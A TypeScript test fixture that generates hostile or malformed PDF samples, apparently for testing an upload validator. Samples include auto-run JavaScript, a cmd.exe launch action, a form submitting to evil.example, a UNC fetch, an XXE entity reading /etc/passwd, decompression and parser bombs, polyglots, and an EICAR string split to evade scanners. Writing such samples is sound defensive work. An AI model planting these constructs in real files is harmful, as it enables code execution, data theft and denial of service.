import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import { type BadFile, badPdf } from './bad-file.js';
import { appendToPdf, attachingPdf, writePdf } from './write-pdf.js';
import { wordDocument } from './word-parts.js';
import { writeZip } from './write-zip.js';

// In pieces, so that no scanner takes this file for what it makes.
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-', 'ANTIVIRUS-TEST-FILE!$H+H*'].join('');
const script = '/S /JavaScript /JS (app.alert(1))';
const [incomplete, more, scripts] = ['not a complete PDF', 'more than a PDF', 'contains scripts'] as const;
const embedded = { dictionary: '/Type /EmbeddedFile', bytes: Buffer.from('MZ') };
const annotation = (rest: string): string => `<< /Type /Annot /Rect [0 0 595 842] ${rest} >>`;
const link = (action: string) =>
  writePdf({ page: '/Annots [10 0 R]', objects: [annotation(`/Subtype /Link /A << ${action} >>`)] });

/** PDFs that are none, that do something, or that hide something. */
export const badPdfs = async (): Promise<BadFile[]> => [
  badPdf('nothing between the marks', incomplete, '%PDF-1.7\n%%EOF\n'),
  badPdf(
    'marks alone, with objects of nothing',
    incomplete,
    '%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n',
  ),
  badPdf(
    'more objects than any document has',
    'cannot look into',
    `%PDF-1.7\n${'1 0 obj\n'.repeat(400_000)}trailer <<>>\n%%EOF\n`,
  ),
  badPdf('a page of the web', incomplete, '<!DOCTYPE html><script>alert(1)</script>'),
  badPdf('a program between the marks', incomplete, `%PDF-1.7\nMZ\u0090 This program cannot be run\n%%EOF\n`),
  badPdf('EICAR between the marks', incomplete, `%PDF-1.7\n${eicar}\n%%EOF\n`),
  badPdf('a PDF that is cut off', incomplete, writePdf().subarray(0, -40)),
  badPdf('a PDF whose pages are missing', incomplete, writePdf({ catalogue: '/Pages 9 0 R' })),
  badPdf(
    'a PDF without a page',
    incomplete,
    writePdf({ catalogue: '/Pages 10 0 R', objects: ['<< /Type /Pages /Kids [] /Count 0 >>'] }),
  ),
  badPdf('a password to open', 'is protected', await protectedPdf({ userPassword: 'secret' })),
  badPdf(
    'a script behind a password to change',
    scripts,
    await protectedPdf({ ownerPassword: 'secret', script: 'app.alert(1)' }),
  ),
  badPdf('a script when opened', scripts, writePdf({ catalogue: `/OpenAction << ${script} >>` })),
  badPdf(
    'a script by name',
    scripts,
    writePdf({
      catalogue: '/Names << /JavaScript << /Names [(a) 10 0 R] >> >>',
      objects: [`<< ${script} >>`],
    }),
  ),
  badPdf(
    'a script that is packed',
    scripts,
    writePdf({ isPacked: true, page: '/AA << /O 10 0 R >>', objects: [`<< ${script} >>`] }),
  ),
  badPdf('a script in other letters', scripts, link('/#53 /Java#53cript /J#53 (app.alert(1))')),
  badPdf(
    'a script whose kind stands elsewhere',
    scripts,
    writePdf({ catalogue: '/OpenAction << /S 10 0 R /JS (x) >>', objects: ['/JavaScript'] }),
  ),
  badPdf('a script in a link', scripts, link('/S /URI /URI (javascript:alert\\(1\\))')),
  badPdf(
    'a script that a later state replaces',
    scripts,
    appendToPdf(writePdf({ catalogue: '/OpenAction 10 0 R', objects: [`<< ${script} >>`] }), [
      [10, '[3 0 R /Fit]'],
    ]),
  ),
  badPdf(
    'a script where a strict reader stops',
    scripts,
    writePdf({ catalogue: '/OpenAction 10 0 R', objects: [`<< /Odd ] endobj /S /JavaScript ${script} >>`] }),
  ),
  badPdf('a program to start', 'starts programs', link('/S /Launch /F (cmd.exe)')),
  badPdf(
    'a program whose kind stands elsewhere',
    'starts programs',
    writePdf({ isPacked: true, page: '/AA << /C << /S 10 0 R /F (cmd.exe) >> >>', objects: ['/Launch'] }),
  ),
  badPdf(
    'an XFA form nobody refers to',
    'is an XFA form',
    writePdf({ objects: ['<< /Fields [] /XFA [(template) 11 0 R] >>'] }),
  ),
  badPdf(
    'an embedded file',
    'contains other files',
    writePdf({
      catalogue: '/Names << /EmbeddedFiles << /Names [(a.exe) 10 0 R] >> >>',
      objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>', embedded],
    }),
  ),
  badPdf('an embedded program that is called XML', 'contains other files', attachingPdf(Buffer.from('MZ'))),
  badPdf(
    'embedded XML with a definition',
    'contains other files',
    attachingPdf(Buffer.from('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')),
  ),
  badPdf(
    'an embedded page of the web',
    'contains other files',
    attachingPdf(Buffer.from('<html><body/></html>')),
  ),
  badPdf(
    'an embedded file with two contents',
    'contains other files',
    attachingPdf(Buffer.from('<a/>'), [{ dictionary: '', bytes: Buffer.from('MZ') }], '/F 11 0 R /UF 12 0 R'),
  ),
  badPdf(
    'an embedded file nobody lists',
    'contains other files',
    attachingPdf(Buffer.from('<a/>'), ['<< /Type /Filespec /F (b.exe) /EF << /F 13 0 R >> >>', embedded]),
  ),
  badPdf(
    'a file pinned to the page',
    'contains other files',
    writePdf({
      page: '/Annots [10 0 R]',
      objects: [annotation('/Subtype /FileAttachment /FS << /F (a.exe) /EF << /F 11 0 R >> >>'), embedded],
    }),
  ),
  badPdf(
    'an XFA form',
    'is an XFA form',
    writePdf({
      catalogue: '/AcroForm << /Fields [] /XFA 10 0 R >>',
      objects: [{ dictionary: '', bytes: Buffer.from('<xdp:xdp/>') }],
    }),
  ),
  badPdf('a form that sends', 'elsewhere', link('/S /SubmitForm /F (https://evil.example)')),
  badPdf('a document on a server', 'elsewhere', link('/S /GoToR /F (\\\\\\\\evil.example\\\\x) /D [0]')),
  badPdf(
    'a film',
    'films',
    writePdf({ page: '/Annots [10 0 R]', objects: [annotation('/Subtype /RichMedia')] }),
  ),
  badPdf(
    'objects that unpack without end',
    'cannot look into',
    writePdf({
      objects: [
        {
          dictionary: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
          bytes: deflateSync(Buffer.alloc(60_000_000)),
        },
      ],
    }),
  ),
  badPdf(
    'objects that are packed twice',
    'cannot look into',
    writePdf({
      objects: [
        {
          dictionary: '/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]',
          bytes: Buffer.from('00'),
        },
      ],
    }),
  ),
  badPdf('brackets without end', 'cannot look into', writePdf({ objects: ['['.repeat(100_000)] })),
  badPdf('an archive behind a PDF', more, Buffer.concat([writePdf(), writeZip(wordDocument())])),
  badPdf(
    'an archive behind a PDF, before its last mark',
    more,
    Buffer.concat([writePdf(), writeZip(wordDocument()), Buffer.from('\n%%EOF\n')]),
  ),
  badPdf('a page of the web before a PDF', more, writePdf({ head: '%<html><script>alert(1)</script>' })),
  badPdf(
    'a page of the web behind a PDF',
    more,
    Buffer.concat([writePdf(), Buffer.from('<script>alert(1)</script>')]),
  ),
  badPdf('a program behind a PDF', more, Buffer.concat([writePdf(), Buffer.from('MZ and so on')])),
];

type Protection = {
  userPassword?: string;
  ownerPassword?: string;
  pdfVersion?: '1.3' | '1.4' | '1.7' | '1.7ext3';
  script?: string;
};
export function protectedPdf({ script, ...protection }: Protection): Promise<Buffer> {
  const document = new PDFDocument({ pdfVersion: '1.7', ...protection });
  if (script) document.addNamedJavaScript('start', script);
  const parts: Buffer[] = [];
  document.on('data', (part: Buffer) => parts.push(part));
  document.text('Ada Lovelace').end();
  return new Promise((resolve, reject) => {
    document.on('end', () => resolve(Buffer.concat(parts)));
    document.on('error', reject);
  });
}
